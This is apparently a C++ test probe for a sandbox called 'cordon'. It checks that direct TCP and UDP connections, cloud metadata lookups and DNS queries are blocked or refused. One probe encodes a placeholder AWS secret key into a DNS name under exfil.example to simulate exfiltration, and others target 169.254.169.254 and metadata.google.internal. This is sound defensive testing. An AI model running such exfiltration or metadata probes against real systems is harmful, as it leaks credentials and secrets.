// network, proxy mode: programs that ignore the proxy variables. Every TCP connection is
// captured and decided as an address (or a synthetic name), every other datagram but DNS is
// dropped, and the DNS stub answers only allowed names, never forwarding anything.
#include <netdb.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <string>

#include "verify/probe_network_io.h"
#include "verify/probe_util.h"

namespace cordon::verify::probe::netio {
namespace {

constexpr const char* kHttpPayload =
    "GET / HTTP/1.1\r\nHost: cordon-verify.example\r\nConnection: close\r\n\r\n";
constexpr int kWaitMs = 2000;

std::string bracketed(const std::string& ip, uint16_t port) {
  return (ip.find(':') != std::string::npos ? "[" + ip + "]" : ip) + ":" + std::to_string(port);
}

bool no_ipv6(int err) {
  return one_of(err, {EAFNOSUPPORT, EADDRNOTAVAIL, ENETUNREACH});
}

// A connection to an address that only the capture can answer: it must be accepted by cordon
// and closed without a byte (`must_capture`), or at least never answered.
void direct_tcp(Reporter& r, const std::string& ip, uint16_t port, const std::string& why,
                bool must_capture, std::string_view payload = kHttpPayload) {
  auto to = endpoint(ip, port);
  Silence s = silent_close(*to, payload, kWaitMs);
  bool v6 = to->family() == AF_INET6;
  bool pass = s.connected    ? s.closed_silently
              : s.timed_out  ? false
              : must_capture ? v6 && no_ipv6(s.connect_err)  // no IPv6: nothing to capture
                             : true;  // the box's own stack or Landlock said no
  r.add(kWall, "TCP " + bracketed(ip, port) + " directly (" + why + ")",
        std::string(must_capture ? "captured: connected, then closed by cordon with 0 bytes back"
                                 : "refused locally, or captured and closed with 0 bytes back") +
            (must_capture && v6 ? " (or no IPv6 in the box)" : ""),
        s.got, pass);
}

// A datagram to a public address on a port that is not DNS: the capture drops it.
void direct_udp(Reporter& r, const std::string& ip, uint16_t port) {
  auto to = endpoint(ip, port);
  UniqueFd fd(::socket(to->family(), SOCK_DGRAM | SOCK_CLOEXEC, 0));
  ssize_t sent = fd ? ::sendto(fd.get(), "cordon", 6, 0, to->addr(), to->size) : -1;
  int err = errno;
  bool v6 = to->family() == AF_INET6;
  bool pass = sent < 0 && (err == EPERM || (v6 && no_ipv6(err)));
  r.add(kWall, "UDP sendto " + bracketed(ip, port) + " (not DNS)",
        v6 ? "EPERM (dropped), or no IPv6" : "EPERM (dropped by the capture)",
        sent >= 0 ? "sent" : errno_name(err), pass);
}

// A query the stub must refuse: REFUSED with no answer, whatever resolver address it was sent to.
void dns_refused(Reporter& r, const std::string& resolver, const std::string& name,
                 const std::string& what) {
  auto to = endpoint(resolver, 53);
  DnsExchange x = dns_udp(*to, name, wire::dns::kTypeA, kWaitMs);
  bool pass = x.answer && x.answer->valid && x.answer->response &&
              x.answer->rcode == wire::dns::kRcodeRefused && x.answer->answer_count == 0;
  std::string expected = "REFUSED by cordon's stub, 0 answers";
  if (to->family() == AF_INET6 && !x.answer && x.err != 0 &&
      one_of(x.err, {EAFNOSUPPORT, EADDRNOTAVAIL, ENETUNREACH, ECONNREFUSED})) {
    pass = true;  // no IPv6 in the box: no stub on ::1 either, and nothing leaves
    expected += " (or no IPv6)";
  }
  r.add(kWall, "DNS " + what + " via " + bracketed(resolver, 53), expected, x.describe(), pass);
}

}  // namespace

void capture_attacks(const ProbeSpec& spec, Reporter& r) {
  const NetworkSpec& n = spec.network;
  // On the origin's port, which Landlock lets through (an allow rule names it): the capture
  // must take the connection, and the proxy must refuse the address (no rule allows it).
  direct_tcp(r, "203.0.113.7", n.origin_port, "public IPv4", true);
  direct_tcp(r, "2001:db8::7", n.origin_port, "public IPv6", true);
  direct_tcp(r, "169.254.169.254", n.origin_port, "cloud metadata address", true);
  // 198.18.0.0/15 is where the stub's answers come from; this one was never handed out.
  direct_tcp(r, "198.18.255.254", n.origin_port, "a synthetic address no name was given", true);
  // Ports no rule names: Landlock may refuse them first; either way nothing answers.
  direct_tcp(r, "1.1.1.1", 443, "public IPv4, HTTPS port", false);
  direct_tcp(r, "169.254.169.254", 80, "cloud metadata", false);
  // The transparent listener itself: no original destination to decide.
  direct_tcp(r, "127.0.0.1", n.transparent_port, "cordon's transparent listener itself", false);
  {
    wire::Bytes query = wire::dns_query(0x7e57, n.denied_name, wire::dns::kTypeA);
    std::string framed;
    framed += static_cast<char>(query.size() >> 8);
    framed += static_cast<char>(query.size() & 0xff);
    framed += wire::to_string(query);
    direct_tcp(r, "8.8.8.8", 53, "DNS over TCP", false, framed);
  }

  direct_udp(r, "203.0.113.7", 9);
  direct_udp(r, "2001:db8::7", 9);

  dns_refused(r, "8.8.8.8", n.denied_name, "query for a denied name (" + n.denied_name + ")");
  dns_refused(r, "2001:4860:4860::8888", n.denied_name,
              "query for a denied name (" + n.denied_name + ")");
  const std::string exfil =
      wire::dns_exfil_name("AWS_SECRET_ACCESS_KEY=cordon-verify-not-a-secret", "exfil.example");
  dns_refused(r, "8.8.8.8", exfil, "exfiltration (" + exfil.substr(0, 20) + "...exfil.example)");
  dns_refused(r, "8.8.8.8", "metadata.google.internal", "query for a metadata name");
  dns_refused(r, "127.0.0.1", "x." + n.origin_name,
              "query for a name under the allowed one (x." + n.origin_name + ")");

  // A program that resolves the denied name the usual way gets no address to connect to.
  addrinfo hints{};
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* found = nullptr;
  int rc = ::getaddrinfo(n.denied_name.c_str(), nullptr, &hints, &found);
  std::string got = rc == 0 ? "resolved" : ::gai_strerror(rc);
  if (found) ::freeaddrinfo(found);
  r.add(kWall, "getaddrinfo(" + n.denied_name + ") (transparent path to a denied name)",
        "no address", got, rc != 0);
}

}  // namespace cordon::verify::probe::netio
